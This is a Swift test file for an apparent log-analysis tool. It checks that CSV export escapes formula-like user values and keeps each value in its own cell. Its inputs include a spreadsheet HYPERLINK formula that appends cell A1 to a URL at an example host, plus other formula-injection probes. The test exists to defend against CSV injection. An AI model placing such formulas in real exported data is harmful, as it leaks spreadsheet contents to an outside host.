import Foundation
import Testing

/// Values from logs in `--format csv`, as Python's `csv` reads them.
struct HostileCSVTests {
    /// What a log has, and what a spreadsheet is given: a formula as text, all else as it is.
    private static let values = [
        ("=HYPERLINK(\"https://example.com/?\"&A1,\"more\")", "'=HYPERLINK(\"https://example.com/?\"&A1,\"more\")"),
        ("+1-555-0100", "'+1-555-0100"), ("-2+3", "'-2+3"), ("@SUM(A1)", "'@SUM(A1)"), ("-12.5", "-12.5"), ("+7", "+7"),
        ("a,\u{301}b", "a,\u{301}b"), ("a\"\u{338}b", "a\"\u{338}b"), ("山田, 太郎", "山田, 太郎"), ("plain", "plain"),
        ("1=2", "1=2"),
    ]

    @Test func formulasAreTextAndNoValueLeavesItsCell() async throws {
        let folder = try TemporaryFolder()
        let lines = try Self.values.map { user, _ in
            let line: [String: Any] = [
                "event": "llm_request_success", "model": "claude-haiku-4-5-20251001", "input_tokens": 10,
                "output_tokens": 1, "timestamp": "2026-11-23T11:00:00Z", "user": user,
            ]
            return String(decoding: try JSONSerialization.data(withJSONObject: line), as: UTF8.self) + "\n"
        }
        try folder.write(lines.joined(), to: "app.jsonl")
        let result = try await Tailmeter.run(["analyze", "app.jsonl", "--by", "user", "--format", "csv"], in: folder)
        try #require(result.end == .exited(0), "\(result.errors)")
        try folder.write(result.output, to: "app.csv")
        let reader = """
            import csv, json
            rows = list(csv.reader(open("app.csv", newline="", encoding="utf-8")))
            assert len({len(row) for row in rows}) == 1, rows
            print(json.dumps([row[0] for row in rows[1:]]))
            """
        let read = try await ChildProcess.run(tool: "python3", ["-c", reader], in: folder)
        try #require(read.end == .exited(0), "\(read.errors)")
        let cells = try JSONDecoder().decode([String].self, from: Data(read.output.utf8))
        let scalars = { (texts: [String]) in Set(texts.map { Array($0.unicodeScalars) }) }
        #expect(scalars(cells) == scalars(Self.values.map(\.1)))
    }
}
